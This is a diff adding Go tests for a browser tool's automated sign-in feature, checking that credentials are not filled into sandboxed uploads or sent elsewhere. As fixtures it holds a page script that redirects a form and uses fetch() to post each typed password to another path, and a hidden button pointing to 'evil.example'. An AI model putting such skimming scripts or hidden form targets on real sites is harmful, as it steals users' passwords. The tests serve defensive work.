@@ -1,6 +1,7 @@
 package browser_test
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -201,5 +202,85 @@ func TestALoginIsAskedForOrChosen(t *testing.T) {
 	}
 	if out := w.call("browser_sign_in", "url", page); !out.Error || w.asked != 1 || !strings.Contains(out.Text, "refused") {
 		t.Errorf("none, and refused: %s", out.Text)
+	}
+}
+
+// sandboxed has the site send a page cut off from itself.
+func (w *world) sandboxed(path, html string) string {
+	w.mux.HandleFunc("GET "+path, func(rw http.ResponseWriter, _ *http.Request) {
+		rw.Header().Set("Content-Type", "text/html")
+		rw.Header().Set("Content-Security-Policy", "sandbox allow-scripts allow-forms")
+		_, _ = io.WriteString(rw, html)
+	})
+	return w.server.URL + path
+}
+
+// TestADocumentThatIsCutOffFromItsSite: a site shows what others put there (uploads,
+// mails) in a sandbox, under its own address.
+func TestADocumentThatIsCutOffFromItsSite(t *testing.T) {
+	t.Parallel()
+	w := open(t, nil)
+	inner := w.sandboxed("/upload", plainForm)
+	for name, page := range map[string]string{"the page": inner, "a frame": w.page("/frame", `<iframe src="/upload"></iframe>`)} {
+		if out := w.call("browser_sign_in", "url", page); !out.Error || !strings.Contains(out.Text, "unknown_form") || w.armed.Password != "" {
+			t.Errorf("%s: %s", name, out.Text)
+		}
+	}
+}
+
+// TestAScriptDoesNotChooseWhereTheValueGoes: the page is opened anew, and the form's
+// own path is the only one.
+func TestAScriptDoesNotChooseWhereTheValueGoes(t *testing.T) {
+	t.Parallel()
+	w := open(t, func(c *browser.Config) { c.Evaluate = true })
+	w.accept("/session", "/account")
+	w.page("/account", account)
+	stolen := make(chan string, 10)
+	w.mux.HandleFunc("POST /comments", func(_ http.ResponseWriter, r *http.Request) {
+		_ = r.ParseForm()
+		stolen <- r.FormValue("password")
+	})
+	w.ok("browser_navigate", "url", w.page("/login", plainForm))
+	w.ok("browser_evaluate", "function", `() => { document.forms[0].action = '/comments'; document.addEventListener('input', e => fetch('/comments', {method: 'post', body: new URLSearchParams({password: e.target.value})})) }`)
+	s := w.ok("browser_sign_in")
+	if !strings.Contains(s, "signed_in") || len(stolen) > 0 {
+		t.Errorf("%s, and %d went elsewhere", s, len(stolen))
+	}
+	if w.paths[0] != "/session" {
+		t.Errorf("it was armed for %q", w.paths)
+	}
+}
+
+// TestEnterIsAnotherButtons: pressing it is as pressing the form's first button.
+func TestEnterIsAnotherButtons(t *testing.T) {
+	t.Parallel()
+	form := `<form method=post action=/session><button formaction="https://evil.example/" style="display:none">x</button><input name=user aria-label=User><input type=password name=password><button>Sign in</button></form>`
+	for _, fill := range []bool{false, true} {
+		w := open(t, nil)
+		w.logins[0].Fill = fill
+		w.accept("/session", "/account")
+		w.page("/account", account)
+		out := w.call("browser_sign_in", "url", w.page("/login", form))
+		list := w.ok("browser_network_requests")
+		if out.Error != fill || strings.Contains(list, "evil.example") {
+			t.Errorf("fill %v: %s\n%s", fill, out.Text, list)
+		}
+	}
+}
+
+// TestWhatWasArmedEndsWithTheCall: also where nobody waits for it any more.
+func TestWhatWasArmedEndsWithTheCall(t *testing.T) {
+	t.Parallel()
+	w := open(t, nil)
+	w.ok("browser_navigate", "url", w.page("/login", plainForm+`<script>document.forms[0].onsubmit = () => false</script>`))
+	ctx, cancel := context.WithCancel(t.Context())
+	w.onArm = cancel
+	if out := w.driver.Call(ctx, cellrpc.Call{Tool: "browser_sign_in"}); !out.Error {
+		t.Error(out.Text)
+	}
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	if !w.state.Gone || w.paths[0] != "" {
+		t.Error("it is still armed")
 	}
 }
